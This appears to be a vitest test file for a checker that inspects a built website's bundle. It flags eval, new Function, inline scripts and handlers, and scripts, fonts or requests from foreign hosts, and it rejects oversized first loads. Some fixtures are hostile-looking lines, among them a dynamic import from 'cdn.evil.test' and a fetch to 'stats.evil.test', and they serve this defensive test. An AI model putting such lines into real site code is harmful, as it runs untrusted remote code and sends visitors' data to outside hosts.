import { createHash } from "node:crypto";
import { describe, expect, it } from "vitest";
import { type BuiltFile, firstLoadLimitBytes, siteFindings } from "../src/site-bundle.ts";

const owner = { folder: "apps/web" };
const document: BuiltFile = {
  name: "index.html",
  text: '<script type="module" src="/a/main.js"></script>',
  imports: [],
};
const entry: BuiltFile = { name: "a/main.js", text: 'import "./part.js"; fetch("/p")', imports: ["a/part.js"] };
const part: BuiltFile = { name: "a/part.js", text: 'const namespace = "http://www.w3.org/2000/svg";', imports: [] };
const later: BuiltFile = { name: "a/later.js", text: "x".repeat(10), imports: [] };

/** Text that hardly compresses, always the same. */
function noise(length: number): string {
  return createHash("shake256", { outputLength: length }).update("noise").digest("base64");
}

describe("a built site", () => {
  it("is told with what its first screen loads, and nothing that comes later", () => {
    const [finding, ...others] = siteFindings(owner, [document, entry, part, later]);
    expect(others).toEqual([]);
    expect(finding).toMatchObject({ isWarning: true });
    expect(finding?.message).toContain("a/part.js");
    expect(finding?.message).not.toContain("a/later.js");
  });

  it.each([
    ["code from text", { ...later, text: 'eval ("1")' }, "makes code from text"],
    ["a function from text", { ...later, text: 'new Function("return 1")' }, "makes code from text"],
    ["a foreign script", { ...later, text: 'import("https://cdn.evil.test/x.js")' }, "makes code from text"],
    ["a foreign address", { ...later, text: 'fetch("https://stats.evil.test/hit")' }, "names a foreign address"],
    ["a foreign font", { name: "a/x.css", text: "@import url(https://fonts.evil.test/a.css)", imports: [] }, "foreign"],
    ["an inline script", { ...document, name: "other.html", text: "<script>1</script>" }, "inline"],
    ["an inline handler", { ...document, name: "other.html", text: '<b onclick="x()">' }, "inline"],
  ])("is refused with %s", (_what, file, message) => {
    const findings = siteFindings(owner, [document, entry, part, file]).filter(({ isWarning }) => isWarning !== true);
    expect(findings.map((finding) => finding.message).join()).toContain(message);
  });

  it("is refused where its first load is too large, or nothing was built", () => {
    const large = { ...part, text: noise(firstLoadLimitBytes * 2) };
    expect(siteFindings(owner, [document, entry, large])).toMatchObject([{ isWarning: false }]);
    expect(siteFindings(owner, [document]).map(({ message }) => message)).toEqual([
      "nothing was built: nothing is proven",
    ]);
  });
});
